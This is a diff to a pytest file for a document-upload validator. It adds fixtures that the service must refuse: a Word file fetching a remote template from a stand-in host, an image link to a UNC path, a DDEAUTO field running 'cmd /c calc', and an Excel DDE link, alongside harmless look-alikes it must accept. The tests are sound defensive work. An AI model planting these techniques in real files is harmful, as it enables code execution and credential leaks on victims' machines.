@@ -231,10 +231,12 @@ def test_a_picture_that_lacks_its_end_is_refused(kind, frames):
         assert told.value.code == "invalid_image", missing
 
 
-@pytest.mark.parametrize("kind", ["GIF", "WEBP"])
-def test_a_later_picture_of_an_animation_that_is_broken_is_found(editor_client, collection, kind):
+@pytest.mark.parametrize(("kind", "begins"), [("GIF", b"\x2c\0\0\0\0"), ("WEBP", b"VP8 ")])
+def test_a_later_picture_of_an_animation_that_is_broken_is_found(
+    editor_client, collection, kind, begins
+):
     content, name = bytearray(made.picture(kind, (60, 40), 3)), f"a.{kind.lower()}"
-    at = len(content) - 800
+    at = content.rindex(begins) + 8  # behind the name and size of the last one
     content[at : at + 400] = bytes(400)
     refused(editor_client, IMAGES, name, bytes(content), collection)
 
@@ -324,6 +326,10 @@ def test_an_empty_file_is_refused(editor_client, collection, url):
     assert "empty" in refused(editor_client, url, name, b"", collection)
 
 
+FETCHES = (
+    b'<Relationships><Relationship Id="1" Type="http://x/%s" Target="%s" TargetMode="External"/>'
+)
+COMMANDS = b"<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd /c calc</w:instrText>"
 OPENS = b"7 0 <</Type /Action /D (>>) /S /URI /URI (https://x)>>"  # packed, as object 7
 
 
@@ -349,6 +355,13 @@ OPENS = b"7 0 <</Type /Action /D (>>) /S /URI /URI (https://x)>>"  # packed, as 
         ("a.xlsx", made.office("xl/workbook.xml", xl__macrosheets__a_dot_xml=b"x"), "macros"),
         ("a.odt", made.office("content.xml", Basic__Standard__a_dot_xml=b"x"), "macros"),
         ("a.docx", made.office(word__embeddings__oleObject1_dot_bin=b"x"), "objects of other"),
+        ("a.docx", made.office(word___rels__settings_dot_xml_dot_rels=FETCHES % (
+            b"attachedTemplate", b"http://x.example/t.dotm")), "fetched from elsewhere"),
+        ("a.docx", made.office(word___rels__document_dot_xml_dot_rels=FETCHES % (
+            b"image", b"file:///\\\\x\\y.png")), "fetched from elsewhere"),
+        ("a.docx", made.office(word__footer1_dot_xml=COMMANDS), "a command to another program"),
+        ("a.xlsx", made.office("xl/workbook.xml", xl__externalLinks__e_dot_xml=b"<ddeLink x='y'/>"),
+         "a command to another program"),
         ("a.docx", made.locked(made.office()), "without a password"),
         ("a.rtf", b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", "objects of other"),
         ("a.pdf", made.pdf(b"<</S /JavaScript /JS (app.alert\\(1\\))>>"), "JavaScript"),
@@ -433,6 +446,15 @@ def test_documents_that_are_two_things_or_act_are_refused(
             + made.pdf()[made.pdf().index(b"startxref") :],
         ),
         ("a.docx", made.office(word__media__a_dot_png=made.picture())),
+        ("a.docx", made.office(word___rels__a_dot_rels=FETCHES % (b"hyperlink", b"https://x/"))),
+        (
+            "a.docx",
+            made.office(
+                word___rels__settings_dot_xml_dot_rels=FETCHES
+                % (b"attachedTemplate", b"file:///C:\\Letters\\l.dotm")
+            ),
+        ),
+        ("a.docx", made.office(word__a_dot_xml=b"<w:t>How DDEAUTO works</w:t>")),
         ("a.xlsx", made.office("xl/workbook.xml")),
         ("a.pptx", made.office("ppt/presentation.xml")),
         ("a.odt", made.office("content.xml")),
